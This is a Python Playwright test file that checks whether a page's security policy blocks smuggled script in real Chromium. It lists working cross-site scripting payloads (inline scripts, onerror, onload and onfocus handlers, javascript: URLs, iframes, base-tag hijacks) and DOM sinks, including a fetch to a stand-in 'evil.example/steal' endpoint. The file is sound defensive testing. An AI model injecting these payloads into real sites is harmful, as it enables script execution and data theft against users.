"""Real Chromium against pages into which somebody has smuggled script: the policy holds it back."""

import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Route, sync_playwright
from werkzeug.serving import make_server

from infra.browser import launch_browser
from infra.local.gateway import StaticSite

pytestmark = [pytest.mark.stack, pytest.mark.browser]
EVIL = "https://evil.example"
PROBE = "window.hacked=1"
MARKUP = {
    "an inline script": f"<script>{PROBE}</script>",
    "a foreign script": f'<script src="{EVIL}/x.js"></script>',
    "a data script": f'<script src="data:text/javascript,{PROBE}"></script>',
    "an error handler": f'<img src="/none.png" onerror="{PROBE}">',
    "a load handler": f'<svg onload="{PROBE}"></svg>',
    "a focus handler": f'<input autofocus onfocus="{PROBE}">',
    "an open details": f'<details open ontoggle="{PROBE}"></details>',
    "a frame of script": f'<iframe srcdoc="<script>parent.{PROBE}</script>"></iframe>',
    "a foreign frame": f'<iframe src="{EVIL}"></iframe>',
    "a script address in a frame": f'<iframe src="javascript:parent.{PROBE}"></iframe>',
    "an object": f'<object data="data:text/html,<script>parent.{PROBE}</script>"></object>',
    "an embed": f'<embed src="{EVIL}/x.swf">',
    "a foreign picture": f'<img src="{EVIL}/pixel.png">',
    "a foreign style": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "an inline style": f'<style>body{{background:url("{EVIL}/x")}}</style>',
    "a foreign font": f'<style>@font-face{{font-family:x;src:url("{EVIL}/x")}}</style>',
    "another base": f'<base href="{EVIL}/"><script src="x.js"></script>',
    "a module": f'<script type="module">{PROBE}</script>',
    "a refresh to script": f'<meta http-equiv="refresh" content="0;url=javascript:{PROBE}">',
    "a video": f'<video src="{EVIL}/x.mp4" autoplay></video>',
}
SINKS = {
    "innerHTML": f"document.body.innerHTML = '<img src=x onerror=\"{PROBE}\">'",
    "outerHTML": "document.body.firstChild.outerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "a script's text": "document.createElement('script').text = 'window.hacked=1'",
    "a script's address": "document.createElement('script').src = '/app/x.js'",
    "srcdoc": "document.createElement('iframe').srcdoc = '<b>x</b>'",
    "a parser": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "eval": "eval('window.hacked=1')",
    "a function of text": "new Function('window.hacked=1')()",
    "a worker": "new Worker('/app/x.js')",
    "a foreign fetch": f"await fetch('{EVIL}/steal', {{mode: 'no-cors'}})",
}
SCRIPT = """
(async () => {
  const outcome = {};
  for (const [name, sink] of Object.entries(SINKS)) {
    try { await sink(); outcome[name] = 'went through'; }
    catch (error) { outcome[name] = 'refused'; }
  }
  window.outcome = outcome;
})();
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as driver, launch_browser(driver) as running:
        yield running


@pytest.fixture
def site(tmp_path: Path) -> Iterator[str]:
    (tmp_path / "app").mkdir()
    server = make_server("127.0.0.1", 0, StaticSite(tmp_path), threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


def test_smuggled_markup_runs_nothing_and_asks_nobody(
    browser: Browser, site: str, tmp_path: Path
) -> None:
    for number, markup in enumerate(MARKUP.values()):
        (tmp_path / "app" / f"{number}.html").write_text(f"<!doctype html><body>{markup}</body>")
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []

    def refuse(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route(f"{EVIL}/**", refuse)

    ran = []
    for number, name in enumerate(MARKUP):
        page.goto(f"{site}/app/{number}.html", wait_until="load")
        if page.evaluate("window.hacked") is not None:
            ran.append(name)
    context.close()

    assert not ran
    assert not asked


def test_sinks_take_no_text(browser: Browser, site: str, tmp_path: Path) -> None:
    """Script of the page's own, as a careless line of ours would be."""
    sinks = ",".join(f"{name!r}: async () => {{ {code} }}" for name, code in SINKS.items())
    (tmp_path / "app" / "own.js").write_text(SCRIPT.replace("SINKS", f"({{{sinks}}})"))
    (tmp_path / "app" / "own.html").write_text(
        '<!doctype html><body><p>x</p><script src="/app/own.js"></script></body>'
    )
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{site}/app/own.html")
    page.wait_for_function("window.outcome !== undefined")
    outcome = page.evaluate("window.outcome")
    hacked = page.evaluate("window.hacked")
    context.close()

    assert hacked is None
    assert {name for name, fate in outcome.items() if fate != "refused"} == set()


def test_without_the_policy_they_would_run(browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    ran = []
    for name in ("an inline script", "an error handler", "a load handler", "a module"):
        page.set_content(MARKUP[name])
        ran.append(page.evaluate("window.hacked"))
        page.goto("about:blank")
    context.close()

    assert ran == [1, 1, 1, 1]
